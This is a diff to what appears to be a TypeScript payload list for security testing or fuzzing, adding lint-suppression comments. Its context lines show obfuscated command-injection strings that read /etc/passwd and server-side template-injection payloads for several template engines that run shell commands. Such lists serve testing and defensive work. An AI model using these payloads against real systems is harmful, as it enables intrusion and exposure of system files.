@@ -37,6 +37,7 @@ const command: Grammar = (r) =>
     'echo $((41+1))',
     '/???/c?t /???/p?ss??',
     "c''at /e''tc/pas''swd",
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the placeholder is the payload
     'cat${IFS}/etc/passwd',
   ]);
 const inner: Grammar = (r) =>
@@ -73,8 +74,10 @@ export const OTHER_KINDS = {
       '#{7*7}',
       "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
       "{{''.__class__.__mro__[1].__subclasses__()}}",
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: the placeholder is the payload
       '${T(java.lang.Runtime).getRuntime().exec("id")}',
       '{{_self.env.registerUndefinedFilterCallback("exec")}}',
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: the placeholder is the payload
       '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
       '{php}echo `id`;{/php}',
       '*{7*7}',
